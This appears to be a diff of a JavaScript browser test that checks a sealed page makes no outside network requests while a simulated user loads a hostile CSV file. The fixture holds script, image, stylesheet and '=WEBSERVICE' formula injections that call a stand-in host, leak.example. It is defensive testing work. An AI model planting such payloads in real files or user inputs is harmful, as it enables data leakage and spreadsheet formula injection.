@@ -8,10 +8,24 @@ import { fileURLToPath, pathToFileURL } from "node:url";
 import { launch, open, part } from "../browser/browser.mjs";
 import { startCanary } from "../browser/canary.mjs";
 import { SEALED_FILE } from "../browser/project.mjs";
+import * as person from "../page/person.mjs";
 import { ATTEMPTS } from "./attempts.mjs";
 
 /** The one line that makes the page sealed. */
 const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
+
+/** Orders that would like to be loaded, followed and run. */
+const HOSTILE = {
+  name: "http:__leak.example_orders.csv",
+  mimeType: "text/csv",
+  buffer: Buffer.from(
+    [
+      'customer_id,order_date,amount,"<script src=http://leak.example/header></script>"',
+      "<img src=http://leak.example/image>,2024-01-05,120.50,<link rel=stylesheet href=http://leak.example/style>",
+      '"=WEBSERVICE(""http://leak.example/formula"")",2024-03-01,15.00,http://leak.example/text',
+    ].join("\n"),
+  ),
+};
 
 describe("a canary that every address leads to", () => {
   /** @type {Awaited<ReturnType<typeof startCanary>>} */
@@ -46,6 +60,25 @@ describe("a canary that every address leads to", () => {
     const { page, close } = await open(browser, SEALED_FILE, canary.context);
     await part(page, "drop").waitFor();
     assert.deepEqual(await canary.listen(), []);
+    await close();
+  });
+
+  it("hears nothing while a person goes the whole way", async () => {
+    const { page, assertClean, close } = await open(browser, SEALED_FILE, { ...canary.context, acceptDownloads: true });
+    canary.heard.length = 0;
+    await person.openSample(page);
+    await person.openFiles(page, HOSTILE);
+    assert.equal((await person.figures(page)).customers, "2");
+    await page.locator("button[data-customer]").first().click();
+    await part(page, "customer").waitFor();
+    await person.lookAt(page, "2024-02-10");
+    for (const which of /** @type {const} */ (["csv", "summary", "run"])) await person.save(page, which);
+    for (const control of ["language", "theme", "privacy"]) await part(page, control).click();
+    await page.keyboard.press("Escape");
+    await person.openFiles(page, { ...HOSTILE, buffer: Buffer.alloc(0) });
+    assert.equal(await person.errorCode(page), "file_empty");
+    assert.deepEqual(await canary.listen(), []);
+    assertClean();
     await close();
   });
 
